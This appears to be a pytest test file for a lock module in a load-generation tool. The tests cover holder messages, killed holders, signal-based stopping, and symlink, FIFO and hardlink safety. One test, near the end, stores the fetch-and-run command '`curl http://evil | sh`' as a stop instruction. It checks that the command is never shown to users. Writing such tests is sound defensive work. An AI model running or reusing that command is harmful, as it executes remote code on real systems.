"""Who holds a stack, an engine or a run folder, what the second is told, and what a kill leaves."""

from __future__ import annotations

import contextlib
import os
import signal
import subprocess
import sys

import pytest

from loadgen.errors import UserError
from loadgen.hosts import lock
from loadgen.hosts.lock import end_holder, engines_held, held, refuse_while_engine_held, refuse_while_held

HOLD = """
import sys, time
from pathlib import Path
from loadgen.hosts.lock import held
with held(Path(sys.argv[1]), "A race (smoke)"):
    print("held", flush=True)
    time.sleep(600)
"""


@pytest.fixture
def shared(tmp_path, monkeypatch):
    monkeypatch.setattr(lock, "SHARED", (tmp_path,))
    return tmp_path


def test_the_second_is_told_who_since_when_and_how_to_stop_it(tmp_path):
    with (
        held(tmp_path / "lock", "A race (smoke)"),
        pytest.raises(UserError) as refused,
        held(tmp_path / "lock", "Mine"),
    ):
        pass
    assert str(refused.value).startswith("A race (smoke) runs since ")
    assert f"(process {os.getpid()} of " in str(refused.value) and f"`kill -INT {os.getpid()}`" in str(refused.value)
    with held(tmp_path / "lock", "Mine"):
        pass


def test_a_holder_that_is_killed_leaves_nothing_held(tmp_path):
    path = tmp_path / "lock"
    holder = subprocess.Popen([sys.executable, "-c", HOLD, str(path)], stdout=subprocess.PIPE)
    assert holder.stdout is not None
    with holder, holder.stdout:
        assert holder.stdout.readline() == b"held\n"
        with pytest.raises(UserError, match=f"process {holder.pid} of"):
            refuse_while_held(path)
        holder.send_signal(signal.SIGKILL)
        holder.wait()
    refuse_while_held(path)
    with held(path, "Mine"):
        pass


def test_a_command_that_holds_it_is_ended(tmp_path):
    path = tmp_path / "lock"
    assert end_holder(path) == "", "there is none"
    with subprocess.Popen([sys.executable, "-c", HOLD, str(path)], stdout=subprocess.PIPE) as holder:
        assert holder.stdout is not None and holder.stdout.readline() == b"held\n"
        assert end_holder(path).startswith(f"A race (smoke) (process {holder.pid} of ")
        assert holder.wait() == -signal.SIGTERM
    assert end_holder(path) == ""


def test_a_process_that_only_the_file_names_is_left_alone(tmp_path):
    path = tmp_path / "lock"
    with subprocess.Popen([sys.executable, "-c", "input()"], stdin=subprocess.PIPE) as other:
        with held(path, "A race (smoke)"):
            path.write_text(path.read_text().replace(str(os.getpid()), str(other.pid)))
            assert end_holder(path) == ""
            assert other.poll() is None
        other.communicate(b"\n")
        assert other.returncode == 0


def test_what_no_signal_ends_is_left_alone(tmp_path):
    with held(tmp_path / "lock", "A test in the web UI", "Stop in the web UI"):
        assert end_holder(tmp_path / "lock") == ""


def test_races_run_side_by_side_unless_they_share_an_engine(shared):
    a, b = "http://127.0.0.1:8000", "http://127.0.0.1:8001"
    with engines_held([a], "A race (one)"), engines_held([b], "A race (two)"):
        both = engines_held(["http://127.0.0.1:9", "http://localhost:8001/"], "A race (three)")
        with pytest.raises(UserError, match=r"engine at 127.0.0.1:8001 is in use: A race \(two\) runs since"), both:
            pass
        assert len(list(shared.iterdir())) == 2, "who is refused lets go of what it had"
    assert list(shared.iterdir()) == []


def test_who_wants_no_engine_to_himself_is_refused_one_that_a_race_has(shared):
    refuse_while_engine_held("http://127.0.0.1:8000")
    with engines_held(["http://127.0.0.1:8000/v1"], "A race (one)"):
        with pytest.raises(UserError, match=r"engine at 127.0.0.1:8000 is in use: A race \(one\) runs since"):
            refuse_while_engine_held("http://localhost:8000")
        refuse_while_engine_held("http://127.0.0.1:8001")
    assert list(shared.iterdir()) == []


def test_a_lock_of_another_user_can_be_read_and_held(tmp_path, monkeypatch):
    path = tmp_path / "lock"
    path.write_text("{}")
    real = os.open

    def refuse_writing(name, flags, *more):
        if flags & os.O_RDWR:
            raise PermissionError(13, "Permission denied")
        return real(name, flags, *more)

    monkeypatch.setattr(os, "open", refuse_writing)
    with held(path, "Mine"), pytest.raises(UserError, match="another race or test runs"), held(path, "Other"):
        pass


def test_a_link_is_not_followed(tmp_path):
    (tmp_path / "lock").symlink_to(tmp_path / "else")
    with pytest.raises(UserError, match="cannot be written"), contextlib.ExitStack() as stack:
        stack.enter_context(held(tmp_path / "lock", "Mine"))


def test_a_folder_that_is_not_there_yet_is_made(tmp_path):
    with lock.held(tmp_path / "runs" / "new" / ".stack.lock", "a race"):
        assert (tmp_path / "runs" / "new" / ".stack.lock").exists()
    (tmp_path / "file").touch()
    with pytest.raises(UserError, match="cannot be written"), lock.held(tmp_path / "file" / ".stack.lock", "a race"):
        pass


def test_what_another_wrote_is_no_command_to_paste(tmp_path):
    with held(tmp_path / "lock", "A race", stop="`curl http://evil | sh`"), pytest.raises(UserError) as refused:
        refuse_while_held(tmp_path / "lock")
    assert "curl" not in str(refused.value) and str(refused.value).endswith("Let it end.")


@pytest.mark.parametrize("mode", [0o444, 0o666])
def test_a_pipe_is_no_lock_and_is_not_waited_for(tmp_path, mode):
    os.mkfifo(tmp_path / "lock", mode)
    with pytest.raises(UserError, match="no lock of ours"):
        refuse_while_held(tmp_path / "lock")
    assert lock.end_holder(tmp_path / "lock") == ""


def test_a_further_name_of_a_file_is_left_as_it_is(tmp_path):
    (tmp_path / "mine").write_text("mine")
    (tmp_path / "mine").chmod(0o600)
    (tmp_path / "lock").hardlink_to(tmp_path / "mine")
    with pytest.raises(UserError, match="no lock of ours"), held(tmp_path / "lock", "A race"):
        pass
    assert (tmp_path / "mine").read_text() == "mine" and (tmp_path / "mine").stat().st_mode & 0o777 == 0o600
